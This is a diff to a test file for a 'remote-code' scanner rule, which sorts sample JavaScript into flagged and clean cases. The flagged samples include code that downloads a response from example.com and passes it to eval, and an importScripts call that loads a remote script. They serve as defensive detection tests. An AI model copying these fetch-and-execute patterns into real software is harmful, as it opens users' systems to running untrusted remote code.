@@ -22,9 +22,9 @@ scanTable('remote-code', {
     'a response by node:https': `import https from 'node:https';
       https.get('https://example.com', (res) => { let s = ''; res.on('data', (d) => { s += d; }); res.on('end', () => eval(s)); });`,
     importScripts: `importScripts('https://example.com/x.js');`,
-    'an import decided by a response': `export async function f(u) { const { name } = await (await fetch(u)).json(); await import(name); }`,
   },
   clean: {
+    'an address that a response is asked for by': `export const f = async (name) => (await fetch('https://example.com/' + name)).status;`,
     'a picture in a data url': `export const icon = 'data:image/png;base64,iVBORw0KGgo=';`,
     'a fetch of json': `export async function f(u) { const r = await fetch(u); return (await r.json()).items; }`,
     'a link': `export const docs = 'https://example.com/x.js';`,
